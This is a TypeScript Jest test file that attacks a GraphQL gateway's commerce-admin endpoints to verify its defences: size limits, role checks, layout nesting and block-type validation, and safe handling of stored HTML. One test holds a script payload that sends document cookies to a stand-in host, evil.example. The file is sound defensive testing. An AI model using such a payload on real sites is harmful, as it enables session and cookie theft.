import type { TestPlatform } from "../support/platform";
import {
  dataIn,
  bearer,
  portOf,
  postJson,
  profiles,
  rawExchange,
  startAttackPlatform,
  tokenSettings,
  urlOf,
  validToken,
  type Answer,
  type TokenSettings,
} from "./support/attack";

jest.setTimeout(180_000);

/**
 * Family "commerce administration" at the perimeter, on both profiles: a 10 MB system prompt,
 * a customer calling an admin-only mutation, an admin-only field asked on main, storefront
 * layouts nested 1,000 deep or of an unknown block type, and HTML in layout text. The
 * commerce subgraph's own defences (other organizations' ids in arguments and `_entities`)
 * are attacked in subgraphs/commerce/test/attacks.
 */
const SAVE = `mutation($input: AiAssistantConfigInput!) { updateAiAssistantConfig(input: $input) { state } }`;
const outcome = (answer: Answer) => [answer.status, answer.code];

describe("attack family: commerce administration through the gateway", () => {
  let platform: TestPlatform;
  let settings: TokenSettings;
  const acme = (role: string) =>
    bearer(validToken(settings, { o: { id: "org_demo_acme", rol: role, slg: "acme" } }));

  beforeAll(async () => {
    platform = await startAttackPlatform();
    settings = tokenSettings(platform);
  });
  afterAll(() => platform?.stop());

  it.each(profiles)(
    "a 10 MB system prompt is refused at the %s perimeter with 413 REQUEST_TOO_LARGE",
    async (profile) => {
      // The request announces its 10 MB body and the gateway refuses it from the head, before
      // reading any of it. (Writing the body too races the gateway's early close: a client
      // still writing gets a reset that can discard the answer.)
      const body = JSON.stringify({
        query: SAVE,
        variables: { input: { systemPrompt: "A".repeat(10 * 1024 * 1024) } },
      });
      const port = portOf(platform, profile);
      const answer = await rawExchange(
        port,
        `POST /graphql HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nContent-Type: application/json\r\nAuthorization: ${acme("admin").authorization}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n`,
      );
      expect(outcome(answer)).toEqual([413, "REQUEST_TOO_LARGE"]);
    },
  );

  it("a prompt over 20,000 characters that fits the body limit is refused by commerce with BAD_USER_INPUT", async () => {
    const answer = await postJson(
      platform.url,
      { query: SAVE, variables: { input: { systemPrompt: "A".repeat(20_001) } } },
      acme("admin"),
    );
    expect(outcome(answer)).toEqual([400, "BAD_USER_INPUT"]);
  });

  it.each(profiles)("a customer's admin-only mutation is refused on %s", async (profile) => {
    const answer = await postJson(
      urlOf(platform, profile),
      { query: SAVE, variables: { input: { temperature: 2 } } },
      acme("customer"),
    );
    expect(answer.status).toBe(403);
    expect(["FORBIDDEN", "STEP_UP_REQUIRED"]).toContain(answer.code);
  });

  it("an admin-only field does not exist on main", async () => {
    const answer = await postJson(
      platform.url,
      {
        query: `{ organizationAiAssistantConfig(organizationId: "org_demo_acme") { systemPrompt } }`,
      },
      acme("admin"),
    );
    expect(outcome(answer)).toEqual([400, "GRAPHQL_VALIDATION_FAILED"]);
  });

  const SAVE_LAYOUT = `mutation($path: String!, $blocks: JSON!) { saveStorefrontPageDraft(path: $path, blocks: $blocks) { id } }`;
  const nested = (levels: number) => {
    let block: Record<string, unknown> = { type: "TEXT", text: "bottom" };
    for (let i = 1; i < levels; i += 1) block = { type: "HERO", heading: "h", children: [block] };
    return [block];
  };

  it.each(profiles)(
    "a layout nested 1,000 deep is refused at the %s perimeter with 400 BAD_REQUEST_BODY",
    async (profile) => {
      const answer = await postJson(
        urlOf(platform, profile),
        { query: SAVE_LAYOUT, variables: { path: "/deep", blocks: nested(1_000) } },
        acme("editor"),
      );
      expect(outcome(answer)).toEqual([400, "BAD_REQUEST_BODY"]);
    },
  );

  it.each([
    ["nested 5 deep (past commerce's 4)", nested(5), "blocks"],
    ["of an unknown block type", [{ type: "MARQUEE", text: "hi" }], "blocks.0.type"],
  ])("a layout %s is refused by commerce with 400 BAD_USER_INPUT", async (_name, blocks, field) => {
    const answer = await postJson(
      platform.url,
      { query: SAVE_LAYOUT, variables: { path: "/attack", blocks } },
      acme("editor"),
    );
    expect(outcome(answer)).toEqual([400, "BAD_USER_INPUT"]);
    expect(
      (answer.body as { errors: { extensions: { field: string } }[] }).errors[0].extensions.field,
    ).toBe(field);
  });

  it("HTML and script in layout text are stored and served as data to anonymous storefronts", async () => {
    const hostile = `<script>document.location="https://evil.example/?c="+document.cookie</script>`;
    const admin = acme("admin");
    const saved = await postJson(
      platform.url,
      {
        query: SAVE_LAYOUT,
        variables: { path: "/hostile", blocks: [{ type: "TEXT", text: hostile }] },
      },
      admin,
    );
    expect(outcome(saved)).toEqual([200, null]);
    const published = await postJson(
      platform.url,
      { query: `mutation { publishStorefrontPage(path: "/hostile") { publishedVersion } }` },
      admin,
    );
    expect(outcome(published)).toEqual([200, null]);
    const read = await postJson(platform.url, {
      query: `{ storefrontPage(organizationSlug: "acme", path: "/hostile") { blocks } }`,
    });
    expect(outcome(read)).toEqual([200, null]);
    expect(read.headers["content-type"]).toMatch(/^application\/(graphql-response\+)?json/);
    expect(dataIn(read.body)).toEqual({
      storefrontPage: { blocks: [{ type: "TEXT", text: hostile }] },
    });
  });
});
